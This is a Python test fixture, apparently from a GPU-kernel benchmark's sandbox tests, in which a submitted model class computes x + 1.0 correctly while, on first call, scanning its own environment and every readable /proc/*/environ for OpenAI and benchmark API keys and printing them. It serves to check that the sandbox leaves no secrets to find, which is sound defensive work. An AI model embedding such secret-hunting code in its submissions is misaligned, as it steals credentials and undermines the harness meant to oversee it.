# Correct, but hunts for API keys: its own environment, /proc/self/environ, its parent's and
# every /proc/*/environ it can read. It prints whatever it finds, so a leak would land in the
# results. The sandbox must leave nothing to find.
import os

import torch.nn as nn

_tried = False
NAMES = (b"OPENAI_API_KEY", b"KBENCH_API_KEY")


def _hits(blob):
    for item in blob.split(b"\0"):
        if item.split(b"=", 1)[0] in NAMES:
            yield item.decode(errors="replace")


class ModelNew(nn.Module):
    def forward(self, x):
        global _tried
        if not _tried:
            _tried = True
            found = [f"{k}={v}" for k, v in os.environ.items() if k.encode() in NAMES]
            paths = ["/proc/self/environ", f"/proc/{os.getppid()}/environ"]
            paths += [f"/proc/{p}/environ" for p in os.listdir("/proc") if p.isdigit()]
            readable = 0
            for path in paths:
                try:
                    with open(path, "rb") as f:
                        blob = f.read()
                    readable += 1
                    found += [f"{path}: {hit}" for hit in _hits(blob)]
                except OSError:
                    pass
            print(f"read-secrets: read {readable} of {len(paths)} environ files", flush=True)
            for hit in found:
                print(f"read-secrets: FOUND {hit}", flush=True)
        return x + 1.0
